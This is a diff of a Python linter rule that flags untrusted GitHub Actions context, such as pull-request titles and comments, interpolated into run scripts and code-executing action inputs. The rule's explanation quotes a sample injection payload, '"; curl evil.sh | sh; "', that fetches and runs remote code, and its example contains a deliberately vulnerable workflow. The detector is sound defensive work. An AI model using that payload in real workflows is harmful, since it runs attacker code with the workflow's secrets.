@@ -1,52 +1,48 @@
 """ci.script-injection: attacker-controlled GitHub context interpolated straight into a shell/script."""
 from __future__ import annotations
 
-import re
 from collections.abc import Iterator
+from typing import Any
 
 from checks.model import Hit
-from checks.ci._ci import action_name, gha_steps, is_action_file, locate, value_line
+from checks.ci._ci import action_name, gha_steps, locate, value_line
+from checks.ci._contexts import EXPRESSION, env_names, tainted_env, tainted_paths
 from checks.registry import Context, Example, rule
 from checks.source import SourceFile
 
-_EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.S)
-# Context paths an outside contributor controls (normalised: lower-case, `['x']` -> `.x`, `[0]` -> `.*`).
-_TAINTED = re.compile(
-    r"github\.(?:"
-    r"head_ref"
-    r"|event\.(?:"
-    r"pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
-    r"|pull_request_target\.(?:title|body)"
-    r"|issue\.(?:title|body)"
-    r"|discussion\.(?:title|body)"
-    r"|comment\.body"
-    r"|review\.body"
-    r"|review_comment\.body"
-    r"|pages\.\*\.page_name"
-    r"|commits\.\*\.(?:message|author\.email|author\.name)"
-    r"|head_commit\.(?:message|author\.email|author\.name|committer\.email|committer\.name)"
-    r"|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.email|author\.name)"
-    r"|pull_requests\.\*\.head\.ref)"
-    r"))(?![\w-])"
-)
+# Inputs of well-known actions that are executed as code (a script, a shell command line).
+_CODE_INPUTS = {
+    "actions/github-script": ("script",),
+    "jannekem/run-python-script-action": ("script",),
+    "addnab/docker-run-action": ("run",),
+    "mikefarah/yq": ("cmd",),
+    "azure/cli": ("inlinescript",),
+    "azure/powershell": ("inlinescript",),
+    "appleboy/ssh-action": ("script",),
+    "cardinalby/js-eval-action": ("expression",),
+}
 
 
-def _normalise(expr: str) -> str:
-    e = expr.lower()
-    e = re.sub(r"""\[\s*['"]([\w-]+)['"]\s*\]""", r".\1", e)
-    e = re.sub(r"\[\s*(\d+|\*)\s*\]", ".*", e)
-    e = re.sub(r"\.\d+(?=\.)", ".*", e)
-    return e
+def _sinks(step: Any) -> Iterator[tuple[Any, str, str]]:
+    """(mapping, key, description) of every value of the step that runs as code."""
+    if isinstance(step.get("run"), str):
+        yield step, "run", "run step"
+    inputs = _CODE_INPUTS.get(action_name(step.get("uses")))
+    w = step.get("with")
+    if inputs and isinstance(w, dict):
+        for key in w:
+            if str(key).lower() in inputs and isinstance(w[key], str):
+                yield w, key, f"`{action_name(step.get('uses'))}` `{key}:`"
 
 
-def tainted_in(text: str) -> list[tuple[str, str]]:
-    """(whole `${{ }}` expression, tainted context path) pairs found in `text`."""
-    out = []
-    for m in _EXPR.finditer(text):
-        t = _TAINTED.search(_normalise(m.group(1)))
-        if t:
-            out.append((m.group(0), t.group(0)))
-    return out
+def _findings(value: str, env: dict[str, str]) -> Iterator[tuple[str, str]]:
+    """(expression, description of the tainted value) for each dangerous `${{ }}` in a script."""
+    for m in EXPRESSION.finditer(value):
+        inner = m.group(1)
+        described = [f"`{p}`" for p in tainted_paths(inner)]
+        described += [f"`env.{n}` (set from `{env[n]}`)" for n in env_names(inner) if n in env]
+        if described:
+            yield m.group(0), ", ".join(described)
 
 
 @rule(
@@ -55,45 +51,41 @@ def tainted_in(text: str) -> list[tuple[str, str]]:
     area="ci",
     title="Untrusted GitHub context interpolated into a run script",
     why="`${{ }}` expressions are pasted into the script before the shell runs it, so a pull-request "
-        "title, branch name or comment such as `\"; curl evil.sh | sh; \"` executes with the "
-        "workflow's token and secrets.",
+        "title, branch name, commit message or comment such as `\"; curl evil.sh | sh; \"` executes "
+        "with the workflow's token and secrets.",
     fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
-        "and use `\"$TITLE\"` in the script; in github-script read `context.payload` instead.",
-    kinds={"gha", "yaml"},  # yaml: composite actions (`action.yml`) run steps too
+        "and use `\"$TITLE\"` in the script; in github-script read `context.payload` or `process.env` instead.",
+    kinds={"gha"},
+    include_tests=True,  # a workflow or composite action is CI wherever it lives (e.g. under e2e/)
     prefilter=("${{",),
     example=Example(
         path=".github/workflows/triage.yml",
-        bad="on: pull_request\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
-            "      - run: |\n          echo \"Title ${{ github.event.pull_request.title }}\"\n",
-        good="on: pull_request\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
-             "      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n"
+        bad="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - run: |\n          echo \"Title ${{ github.event.issue.title }}\"\n",
+        good="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
+             "      - env:\n          TITLE: ${{ github.event.issue.title }}\n"
              "        run: echo \"Title $TITLE\"\n",
     ),
 )
 def check(f: SourceFile, ctx: Context) -> Iterator[Hit]:
-    if "gha" not in f.kinds and not is_action_file(f.path):
-        return
     for doc in f.yaml_docs:
-        for _job, _j, step in gha_steps(doc):
-            targets = []
-            if isinstance(step.get("run"), str):
-                targets.append((step, "run", "run step"))
-            if action_name(step.get("uses")) == "actions/github-script":
-                w = step.get("with")
-                if isinstance(w, dict) and isinstance(w.get("script"), str):
-                    targets.append((w, "script", "github-script `script:`"))
-            for holder, key, where in targets:
+        workflow_env = doc.get("env") if isinstance(doc, dict) else None
+        for _job, job, step in gha_steps(doc):
+            env = tainted_env([step.get("env"), job.get("env"), workflow_env])
+            for holder, key, where in _sinks(step):
                 value = holder[key]
                 if "${{" not in value:
                     continue
                 start = value_line(holder, key)
                 by_line: dict[int, list[tuple[str, str]]] = {}
                 counts: dict[str, int] = {}
-                for expr, path in tainted_in(value):
-                    nth = counts.get(expr, 0)
-                    counts[expr] = nth + 1
-                    by_line.setdefault(locate(f, start, expr, nth), []).append((expr, path))
+                for expr, described in _findings(value, env):
+                    needle = expr.split("\n", 1)[0]
+                    nth = counts.get(needle, 0)
+                    counts[needle] = nth + 1
+                    by_line.setdefault(locate(f, start, needle, nth), []).append((expr, described))
                 for line, found in sorted(by_line.items()):
-                    paths = ", ".join(dict.fromkeys(f"`{p}`" for _e, p in found))
-                    yield Hit(line, message=f"{paths} is interpolated directly into a {where} "
-                                            f"(`{found[0][0].strip()}`); an attacker-chosen value runs as code")
+                    what = ", ".join(dict.fromkeys(d for _e, d in found))
+                    expr = " ".join(found[0][0].split())
+                    yield Hit(line, message=f"{what} is interpolated directly into a {where} (`{expr}`); "
+                                            "an attacker-chosen value runs as code")
